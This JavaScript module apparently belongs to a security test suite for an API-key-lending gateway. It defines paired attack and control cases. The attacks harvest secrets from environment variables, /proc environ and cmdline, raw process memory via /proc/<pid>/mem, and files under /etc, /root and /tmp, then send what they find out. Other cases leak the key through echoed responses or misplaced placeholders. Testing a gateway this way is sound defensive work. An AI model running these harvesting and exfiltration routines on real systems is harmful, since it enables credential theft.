/** Attempts to get at a secret that the gateway lends, or to have it sent where it may not go. */
import { closeSync, openSync, readFileSync, readdirSync, readSync, statSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { connect as connectTls } from 'node:tls';
import { ownDir, processes } from './files.mjs';
import { carryLoot, LOOT_WORD, ofAllProcesses, withOwnProcess } from './loot.mjs';
import { carryHome, tunnel } from './wire.mjs';

const SLOT = 'x-api-key';
const MOST_TEXT = 64 * 1024;

/** Asks a host of the lender's, by TLS that the gateway opens. Gives all of the answer: its status, header, body, trailers. */
async function ask(t, name, { method = 'GET', path, headers = {}, body }) {
  const host = `${t.names[name]}:${t.lenderPort}`;
  const { socket, answer } = await tunnel(host);
  if (!/ 2\d\d( |$)/.test(answer)) throw new Error(answer);
  const tls = connectTls({ socket, servername: t.names[name], rejectUnauthorized: false });
  const options = {
    method,
    path,
    headers: { host, connection: 'close', ...headers },
    createConnection: () => tls,
  };
  const response = await new Promise((resolve, reject) => {
    request(options, resolve).on('error', reject).end(body);
  });
  const content = (await text(response)).slice(0, MOST_TEXT);
  const { statusCode, statusMessage, rawHeaders, rawTrailers } = response;
  return [`${statusCode} ${statusMessage}`, ...rawHeaders, content, ...rawTrailers].join('\n');
}

/** What is answered to a refusal: its first line, as what was met. */
function refused(answer) {
  if (!answer.startsWith('2')) throw new Error(answer.slice(0, 400));
}

/** The allowed request, which the lender hears only when it bore the secret. */
const lent = async (t, nonce) => refused(await ask(t, 'lends', { path: `/lent/${nonce}` }));

/** All that a text may say in another spelling. */
const spelled = (answer) =>
  [
    answer,
    ...(answer.match(/[0-9a-zA-Z+/=]{20,}/g) ?? []).flatMap((word) => [
      decode(word, 'base64'),
      decode(word, 'hex'),
    ]),
  ]
    .join('\n')
    .replaceAll(/[\r\n]+/g, '\n');

const decode = (word, encoding) => Buffer.from(word, encoding).toString('latin1');

/** The lender gives back what it was sent: what comes is carried home, and said, as the gateway may hold back what it knows. */
const echoed = (name, order = {}) => ({
  attack: async (t, nonce) => {
    const answer = await ask(t, 'lends', { path: `/echo/${name}`, ...order });
    const text = spelled(answer);
    await carryLoot(t, nonce, text).catch(() => undefined);
    throw new Error([...(text.match(LOOT_WORD) ?? []), answer].join(' '));
  },
  control: lent,
});

/** What programs in the bottle see in place of the key. In the open there is none. */
function placeholder() {
  const value = process.env.LENT_KEY;
  if (value === undefined) throw new Error('there is no placeholder');
  return value;
}

/** The placeholder where it has no business; what a host makes of it is heard, beside the nonce. */
const misplaced = (host, order) => ({
  attack: async (t, nonce) => {
    const path = `/misplaced/${nonce}`;
    return refused(await ask(t, host, { path, ...order(placeholder(), path) }));
  },
  control: lent,
});

/** A credential of the attacker's own, which must not arrive. */
const own = (headersOf) => ({
  attack: async (t, nonce) => refused(await ask(t, 'lends', { path: '/own', headers: headersOf(nonce) })),
  control: lent,
});

/** The word of the control is looked for in the same way. */
const finding = (textOf) => ({
  alone: true,
  attack: async (t, nonce) => await carryLoot(t, nonce, await textOf()),
  control: async (t, nonce) =>
    await withOwnProcess(nonce, async () => {
      writeFileSync(join(ownDir(), 'own'), nonce);
      if (!(await textOf()).includes(nonce)) throw new Error('what is there is not found');
      await carryHome(t, nonce);
    }),
});

const WORD = /bb[nl][0-9a-f]{24}/g;
const MOST_OF_REGION = 8 * 1024 * 1024;
const MOST_OF_ALL = 64 * 1024 * 1024;

/** Every word in the memory of the processes here that can be read, their stacks first, as arguments and variables lie there. */
function wordsInMemory() {
  const words = new Set();
  let left = MOST_OF_ALL;
  for (const pid of processes()) {
    for (const [from, length] of regions(pid)) {
      if (left <= 0) break;
      const bytes = bytesOf(`/proc/${pid}/mem`, from, length);
      left -= bytes.length;
      for (const [word] of bytes.toString('latin1').matchAll(WORD)) words.add(word);
    }
  }
  return [...words].join('\n');
}

function regions(pid) {
  try {
    return readFileSync(`/proc/${pid}/maps`, 'utf8')
      .split('\n')
      .filter((line) => / rw/.test(line))
      .map((line) => line.match(/^([0-9a-f]+)-([0-9a-f]+) .*?(\[stack\])?$/))
      .filter(Boolean)
      .sort((one, other) => Number(other[3] !== undefined) - Number(one[3] !== undefined))
      .map(([, from, to]) => [
        parseInt(from, 16),
        Math.min(parseInt(to, 16) - parseInt(from, 16), MOST_OF_REGION),
      ]);
  } catch {
    return [];
  }
}

function bytesOf(path, at, length) {
  let file;
  try {
    file = openSync(path, 'r');
    const bytes = Buffer.alloc(length);
    return bytes.subarray(0, readSync(file, bytes, 0, length, at));
  } catch {
    return Buffer.alloc(0);
  } finally {
    if (file !== undefined) closeSync(file);
  }
}

const MOST_FILES = 4_000;
const MOST_OF_FILE = 256 * 1024;

/** Every word in small files of the places that programs are configured in, without following links. */
function wordsInFiles() {
  const queue = [
    process.env.HOME,
    '/tmp',
    '/run',
    '/etc',
    '/work',
    '/var',
    '/dev/shm',
    '/opt',
    '/srv',
    '/mnt',
    '/root',
  ];
  const words = new Set();
  for (let seen = 0; queue.length > 0 && seen < MOST_FILES;) {
    const dir = queue.shift();
    for (const entry of entriesOf(dir)) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) queue.push(path);
      if (!entry.isFile() || seen++ > MOST_FILES) continue;
      for (const [word] of startOf(path).matchAll(WORD)) words.add(word);
    }
  }
  return [...words].join('\n');
}

function entriesOf(dir) {
  try {
    return dir === undefined ? [] : readdirSync(dir, { withFileTypes: true });
  } catch {
    return [];
  }
}

function startOf(path) {
  try {
    return statSync(path).size > MOST_OF_FILE ? '' : readFileSync(path, 'latin1');
  } catch {
    return '';
  }
}

export const SECRETS = {
  'secret-environment': {
    attack: async (t, nonce) => await carryLoot(t, nonce, JSON.stringify(process.env)),
    control: async (t, nonce) => await carryHome(t, { ...process.env, WORD: nonce }.WORD),
  },
  'secret-proc-environ': finding(() => ofAllProcesses('environ')),
  'secret-proc-cmdline': finding(() => ofAllProcesses('cmdline')),
  'secret-memory': finding(wordsInMemory),
  'secret-files': finding(wordsInFiles),
  'proc-memory': finding(wordsInMemory),
  'echo-body': echoed('body'),
  'echo-json': echoed('json'),
  'echo-header': echoed('header'),
  'echo-cookie': echoed('cookie'),
  'echo-redirect': echoed('redirect'),
  'echo-error': echoed('error'),
  'echo-status': echoed('status'),
  'echo-event': echoed('event'),
  'echo-trailer': echoed('trailer', { headers: { te: 'trailers' } }),
  'echo-base64': echoed('base64'),
  'echo-hex': echoed('hex'),
  'echo-gzip': echoed('gzip', { headers: { 'accept-encoding': 'gzip' } }),
  'echo-chunks': echoed('chunks'),
  'echo-trace': echoed('body', { method: 'TRACE', path: '/trace' }),
  'placeholder-elsewhere': misplaced('opened', (key) => ({ headers: { [SLOT]: key } })),
  'placeholder-plain': {
    attack: async (t, nonce) => await carryHome(t, `${nonce}/${placeholder()}`),
    control: lent,
  },
  'placeholder-body': misplaced('lends', (key) => ({ method: 'POST', body: `{"key":"${key}"}` })),
  'placeholder-query': misplaced('lends', (key, path) => ({ path: `${path}?key=${key}` })),
  'placeholder-path': misplaced('lends', (key, path) => ({ path: `${path}/${key}` })),
  'placeholder-header': misplaced('lends', (key) => ({ headers: { 'x-note': key } })),
  'placeholder-cookie': misplaced('lends', (key) => ({ headers: { cookie: `key=${key}` } })),
  'placeholder-bearer': misplaced('lends', (key) => ({ headers: { authorization: `Bearer ${key}` } })),
  'own-key': own((nonce) => ({ [SLOT]: nonce })),
  'own-key-twice': own((nonce) => ({ [SLOT]: [nonce, nonce] })),
  'own-bearer': own((nonce) => ({ authorization: `Bearer ${nonce}` })),
  'own-basic': own((nonce) => ({ authorization: `Basic ${nonce}` })),
};
